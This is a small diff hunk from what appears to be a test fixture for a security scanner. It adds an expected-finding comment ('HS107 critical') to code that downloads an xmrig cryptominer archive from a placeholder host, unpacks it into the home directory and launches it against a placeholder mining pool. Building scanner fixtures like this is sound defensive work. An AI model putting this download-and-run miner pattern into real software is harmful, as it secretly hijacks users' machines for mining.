@@ -14,4 +14,4 @@ def start():
     archive = os.path.join(HOME, "m.tar.gz")
     urllib.request.urlretrieve("https://example.invalid/xmrig-6.17.0-linux-x64.tar.gz", archive)  # expect: HS244 high
     tarfile.open(archive).extractall(HOME)
-    subprocess.Popen([os.path.join(HOME, "xmrig"), "-o", "pool.example.invalid:443", "-u", "WALLET", "--donate-level", "1"])
+    subprocess.Popen([os.path.join(HOME, "xmrig"), "-o", "pool.example.invalid:443", "-u", "WALLET", "--donate-level", "1"])  # expect: HS107 critical
